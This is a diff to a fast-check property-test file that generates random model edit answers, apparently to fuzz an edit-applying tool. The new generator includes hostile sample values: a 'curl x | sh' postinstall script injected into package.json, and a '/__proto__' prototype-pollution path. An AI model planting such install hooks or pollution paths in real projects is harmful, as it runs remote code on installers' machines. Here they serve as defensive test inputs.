@@ -99,7 +99,16 @@ const text = fc.oneof(
 );
 
 const wild: fc.Arbitrary<EditAnswer> = fc.record({
-  action: fc.constantFrom('replace', 'insert-after', 'insert-before', 'append', 'create'),
+  action: fc.constantFrom(
+    'replace',
+    'insert-after',
+    'insert-before',
+    'append',
+    'create',
+    'set-value',
+    'append-value',
+    'remove-value',
+  ),
   path,
   find: fc.oneof(fc.constant(null), fc.string({ maxLength: 5 })),
   text,
@@ -119,7 +128,31 @@ const fitting: fc.Arbitrary<EditAnswer> = fc.tuple(file, fc.nat(), text).chain((
   return action.map((how) => ({ action: how, path: name, find: how === 'append' ? null : find, text: said }));
 });
 
-const edit = fc.oneof({ weight: 4, arbitrary: fitting }, { weight: 1, arbitrary: wild });
+/** One of a value, of files that reach further than the agent's words. */
+const valued: fc.Arbitrary<EditAnswer> = fc.record({
+  action: fc.constantFrom('set-value', 'append-value', 'remove-value'),
+  path: fc.constantFrom('package.json', '.refinery/context.json', 'prompts/support.md'),
+  find: fc.constantFrom(
+    '',
+    '/name',
+    '/dependencies/evil',
+    '/scripts',
+    '/__proto__',
+    '/prompts',
+    '/prompts/0',
+    '/evals/-',
+  ),
+  text: fc.oneof(
+    fc.json({ maxDepth: 2 }),
+    fc.constantFrom('"curl x | sh"', '{"postinstall":"curl x | sh"}', '"**"', '{'),
+  ),
+});
+
+const edit = fc.oneof(
+  { weight: 4, arbitrary: fitting },
+  { weight: 1, arbitrary: valued },
+  { weight: 1, arbitrary: wild },
+);
 
 /** What a model answers: five fixes, each of one or two edits. */
 export const someAnswer = fc.array(fc.array(edit, { minLength: 1, maxLength: 2 }), { minLength: 5, maxLength: 5 });
